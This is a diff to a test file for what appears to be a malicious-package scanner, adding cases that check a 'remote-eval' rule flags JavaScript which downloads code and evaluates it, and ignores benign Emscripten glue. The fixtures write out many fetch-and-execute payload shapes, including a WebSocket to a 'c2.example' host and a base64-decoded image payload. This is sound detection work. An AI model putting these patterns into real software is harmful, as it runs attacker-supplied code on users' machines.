@@ -59,6 +59,57 @@ describe("a bundled CLI's shell completion script held as text reads clean", () 
   });
 });
 
+/**
+ * Unrelated code longer than remote-eval's nearness (src/checks/lib/remote-eval.ts, NEAR), put
+ * between a download and its evaluation: the shape is then found by its link, not by distance.
+ */
+const UNRELATED = Array.from({ length: 24 }, (_, i) => `function step${i}(a, b) { return a * ${i} + b; }`).join('\n');
+
+describe('remote-eval: downloaded text evaluated, linked to its download', () => {
+  test.each([
+    ['a response read in chunks and evaluated at its end, in the response callback', "const https = require('https');\nhttps.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d));\n{{PAD}}\nr.on('end', () => eval(b)); });"],
+    ['fetch, the text of the response, eval handed over as a value', "fetch(u)\n.then((r) => r.text())\n.then((t) => { {{PAD}}\nreturn t; })\n.then(eval);"],
+    ['the evaluation given the download itself', "{{PAD}}\neval(await (await fetch('https://cdn.example/p.js')).text());"],
+    ['the response, then its text, then Function', "const res = await fetch(u);\n{{PAD}}\nconst code = await res.text();\n{{PAD}}\nnew Function(code)();"],
+    ["axios' answer destructured, run by vm", "const vm = require('vm');\nconst axios = require('axios');\nconst { data: script } = await axios.get('https://cdn.example/x');\n{{PAD}}\nvm.runInThisContext(script);"],
+    ['a synchronous XMLHttpRequest, its text evaluated', "const xhr = new XMLHttpRequest();\nxhr.open('GET', u, false);\nxhr.send();\n{{PAD}}\neval(xhr.responseText);"],
+    ["an XMLHttpRequest's load handler", "var x = new XMLHttpRequest();\nx.onload = function () {\n{{PAD}}\neval(this.responseText); };\nx.open('GET', u); x.send();"],
+    ['chunks kept by a handler in a named function, evaluated later', "const http = require('http');\nlet body = '';\nfunction handle(res) { res.on('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttp.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['chunks pushed, concatenated, run by Function', "const https = require('https');\nconst chunks = [];\nfunction onRes(res) { res.on('data', (c) => chunks.push(c)); }\n{{PAD}}\nhttps.get(u, onRes);\n{{PAD}}\nprocess.on('beforeExit', () => Function(Buffer.concat(chunks).toString())());"],
+    ["a WebSocket's messages run", "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://c2.example/');\nws.on('message', (m) => {\n{{PAD}}\nnew Function(m.toString())(); });"],
+    ['a helper that downloads, its answer run in a new context', "function download(u) { return new Promise((ok) => require('https').get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\n{{PAD}}\nconst payload = await download(url);\n{{PAD}}\nrequire('vm').runInNewContext(payload, { require });"],
+    ['a DNS TXT record evaluated', "const dns = require('dns');\ndns.resolveTxt('cfg.example', (err, records) => {\n{{PAD}}\neval(records.flat().join('')); });"],
+    ["the https module under another name, read by bracket, and a decoded image's payload (GuardDog's steganography shape)", "const t = 'base64', h = require('https');\nh['get']('https://cdn.example/initial.png', (response) => { let data = ''; response.on('data', (r) => { data += r; });\n{{PAD}}\nresponse.on('end', () => { let plain = Buffer.from(data, t).toString(); eval(plain); }); });"],
+    ['get taken out of https by name, under another name', "const { get: download } = require('https');\ndownload(u, (r) => { let s = ''; r.on('data', (c) => (s += c));\n{{PAD}}\nr.on('end', () => new Function(s)()); });"],
+    ['request imported by name from http', "import { request } from 'http';\nrequest(u, (r) => { r.setEncoding('utf8'); r.on('data', (c) => {\n{{PAD}}\neval(c); }); }).end();"],
+    ['a downloaded script compiled by new vm.Script', "const vm = require('vm');\nconst src = await (await fetch(u)).text();\n{{PAD}}\nnew vm.Script(src).runInThisContext();"],
+  ])('%s', (_name, code) => {
+    // Close together and with unrelated code between: found either way.
+    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
+  });
+
+  // Emscripten's glue fetches its .wasm and evaluates, elsewhere, the JavaScript its own module
+  // carries: EM_ASM / EM_JS code and embind's invokers (fixtures/PROVENANCE.md, two cuts of each file).
+  test.each([
+    ['excerpts/wasm-vips@0.0.19/vips-node-em-asm.js'],
+    ['excerpts/wasm-vips@0.0.19/vips-node-embind.js'],
+    ['excerpts/web-tree-sitter@0.27.2/web-tree-sitter-em-asm.js'],
+    ['excerpts/pyodide@314.0.8/pyodide-em-js.mjs'],
+  ])('%s: a fetch and an unrelated evaluation in one file read clean', (file) => {
+    expect(flags(read(file))).toEqual([]);
+  });
+
+  test.each([
+    ['a download and an evaluation of a constant, far apart', "const r = await fetch(u);\nconst wasm = await r.arrayBuffer();\n{{PAD}}\nconst f = new Function('a', 'b', 'return a + b');"],
+    ['a name reused: the download assigned, then the name given other text before the evaluation', "let s = await (await fetch(u)).text();\nrender(s);\n{{PAD}}\ns = buildInvoker(argCount);\n{{PAD}}\nconst invoker = new Function(s);"],
+    ['a value tested, not evaluated: the answer decides which constant text runs', "const ok = (await fetch(u)).ok;\n{{PAD}}\nconst body = ok ? 'return 1' : 'return 2';\n{{PAD}}\nnew Function(body)();"],
+    ['a data handler on a file stream, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nlet src = '';\nconst s = fs.createReadStream(p);\ns.on('data', (d) => (src += d));\nprocess.stdin.on('data', (line) => { src += line; });\n{{PAD}}\nconst tpl = compile(src);\n{{PAD}}\nFunction(tpl)();"],
+  ])('%s', (_name, code) => {
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
+  });
+});
+
 describe('each rule at its edge (edits of real shapes)', () => {
   const recon = [
     "const os = require('os'); const https = require('https');",
